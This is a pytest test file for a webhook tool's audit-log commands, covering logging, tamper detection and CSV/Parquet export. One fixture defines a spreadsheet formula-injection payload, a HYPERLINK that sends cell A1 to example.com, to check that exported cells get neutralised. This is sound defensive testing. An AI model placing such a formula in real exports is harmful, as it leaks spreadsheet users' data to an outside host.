"""`webhook audit`: what commands leave in the log, and the log verified, listed and exported."""

from __future__ import annotations

import csv
import json
import os
import pwd
import re
import sys
from typing import TYPE_CHECKING

import pytest
from pyarrow import parquet

from tests.running import environment
from tests.test_audit import attack, delete
from webhook import bootstrap, clock
from webhook import settings as settings_module
from webhook.cli.exports import export
from webhook.store.audit import AuditRow

if TYPE_CHECKING:
    from pathlib import Path

    from tests.cli.conftest import RunCommand

ME = f"cli:{pwd.getpwuid(os.getuid()).pw_name}"
FORMULA = '=HYPERLINK("http://example.com/"&A1,"x")'


@pytest.fixture
def keys(webhook: RunCommand) -> list[str]:
    """Make two keys and revoke the first, which are three rows; return their ids."""
    for name in ("uploader", FORMULA):
        assert webhook("keys", "create", name, "--role", "submitter")[0] == 0
    ids = [line.split()[0] for line in webhook("keys", "list")[1].splitlines()[1:]]  # below the head
    assert webhook("keys", "revoke", ids[0])[0] == 0
    return ids


def test_commands_that_change_something_are_in_the_log_with_who_ran_them(
    webhook: RunCommand, keys: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LOGNAME", "somebody-else")
    assert webhook("keys", "revoke", keys[0])[0] == 1
    status, out, _ = webhook("audit", "list", "--json")
    assert status == 0
    found = [json.loads(line) for line in out.splitlines()]
    assert [(one["number"], one["action"], one["object_id"], one["details"]) for one in found] == [
        (3, "key.revoked", keys[0], {}),
        (2, "key.created", keys[1], {"name": FORMULA, "role": "submitter"}),
        (1, "key.created", keys[0], {"name": "uploader", "role": "submitter"}),
    ]
    assert {(one["actor"], one["address"], one["status"]) for one in found} == {(ME, None, None)}


def test_a_user_without_a_name_is_known_by_number(webhook: RunCommand, monkeypatch: pytest.MonkeyPatch) -> None:
    def nobody(number: int) -> None:
        raise KeyError(number)

    monkeypatch.setattr(pwd, "getpwuid", nobody)
    webhook("keys", "create", "x", "--role", "reader")
    assert f"cli:{os.getuid()}" in webhook("audit", "list")[1]


def test_the_list_is_lines_of_fields_and_filtered(webhook: RunCommand, keys: list[str]) -> None:
    fields = [line.split("\t") for line in webhook("audit", "list")[1].splitlines()]
    assert [(one[0], one[6], one[7]) for one in fields] == [
        ("3", "key.revoked", keys[0]),
        ("2", "key.created", keys[1]),
        ("1", "key.created", keys[0]),
    ]
    assert {len(one) for one in fields} == {9}
    second = fields[1][1]
    for options, numbers in (
        (["--object-id", keys[0]], "31"),
        (["--action", "key.created"], "21"),
        (["--actor", "nobody"], ""),
        (["--limit", "1"], "3"),
        (["--since", second], "32"),
        (["--until", second.replace("Z", "+00:00")], "1"),
        (["--since", "2026-01-31", "--until", "2026-02-01"], ""),
    ):
        assert "".join(line[0] for line in webhook("audit", "list", *options)[1].splitlines()) == numbers


def test_what_is_right_is_told_with_its_head_and_what_is_not_ends_with_status_1(
    webhook: RunCommand, keys: list[str], tmp_path: Path
) -> None:
    assert keys
    status, out, _ = webhook("audit", "verify")
    assert status == 0
    found = re.fullmatch(r"3 rows, none altered, removed or moved. The head is (3:[0-9a-f]{64}).\n", out)
    assert found
    assert webhook("audit", "verify", "--noted", found[1])[0] == 0
    assert webhook("audit", "verify", "--noted", f"3:{'0' * 64}")[0] == 1

    service = bootstrap.build(settings_module.load(environment(tmp_path)))
    attack(service, delete("number = 2"))
    service.database.close()
    status, out, err = webhook("audit", "verify")
    assert (status, out) == (1, "")
    assert err == "Error: Row 2 is missing.\n"


def test_csv_has_every_row_and_starts_no_formula(webhook: RunCommand, keys: list[str], tmp_path: Path) -> None:
    path = tmp_path / "audit.csv"
    assert webhook("audit", "export", str(path))[0] == 0
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["number"] for row in rows] == ["1", "2", "3"]
    assert [row["object_id"] for row in rows] == [keys[0], keys[1], keys[0]]
    assert json.loads(rows[1]["details"])["name"] == FORMULA
    assert rows[0]["address"] == rows[0]["status"] == ""
    assert webhook("audit", "export", "-")[1].encode() == path.read_bytes()
    assert path.stat().st_mode & 0o077 == 0
    assert not path.with_name("audit.csv.part").exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_what_begins_like_a_formula_gets_an_apostrophe(tmp_path: Path, start: str) -> None:
    path = tmp_path / "audit.csv"
    name = f'{start}1+1,"x"'
    row = AuditRow(number=1, at=clock.now(), actor="key_1", actor_name=name, action="task.created", hash=bytes(32))
    assert export([row], str(path), format="csv") == 1
    with path.open(newline="", encoding="utf-8") as file:
        [found] = csv.DictReader(file)
    assert found["actor_name"] == f"'{name}"
    assert found["actor"] == "key_1"


def test_parquet_has_every_row_as_it_is(webhook: RunCommand, keys: list[str], tmp_path: Path) -> None:
    path = tmp_path / "audit.parquet"
    assert webhook("audit", "export", "--format", "parquet", str(path))[0] == 0
    table = parquet.read_table(path)
    rows = table.to_pylist()
    shown = [json.loads(line) for line in webhook("audit", "list", "--json")[1].splitlines()][::-1]
    for row, one in zip(rows, shown, strict=True):
        assert json.loads(row.pop("details")) == one.pop("details")
        assert row.pop("at").isoformat().replace("+00:00", "Z") == one.pop("at")
        assert row == one
    assert str(table.schema.field("at").type) == "timestamp[us, tz=UTC]"
    assert rows[0]["object_id"] == keys[0]


@pytest.mark.parametrize("format_", ["csv", "parquet"])
def test_an_export_can_be_of_a_time_only(webhook: RunCommand, keys: list[str], tmp_path: Path, format_: str) -> None:
    assert keys
    second = json.loads(webhook("audit", "list", "--json", "--limit", "2")[1].splitlines()[1])["at"]
    path = tmp_path / "some"
    for option, count in (("--since", "2"), ("--until", "1")):
        status, _, err = webhook("audit", "export", "--format", format_, option, second, str(path))
        assert (status, err) == (0, f"webhook: {count} rows are in {path}.\n")


def test_without_pyarrow_parquet_is_refused_in_words(
    webhook: RunCommand, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    path = tmp_path / "audit.parquet"
    path.write_text("what was there")
    status, _, err = webhook("audit", "export", "--format", "parquet", str(path))
    assert status == 1
    assert err.startswith("webhook: Parquet needs pyarrow")
    assert path.read_text() == "what was there"


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["export", "/nowhere/audit.csv"], "/nowhere/audit.csv cannot be written: No such file"),
        (["list", "--since", "yesterday"], "yesterday is no time"),
        (["verify", "--noted", "3:abc"], "3:abc is not what"),
    ],
)
def test_a_wrong_command_is_told_what_is_wrong(webhook: RunCommand, arguments: list[str], says: str) -> None:
    status, _, err = webhook("audit", *arguments)
    assert status == 1
    assert says in err
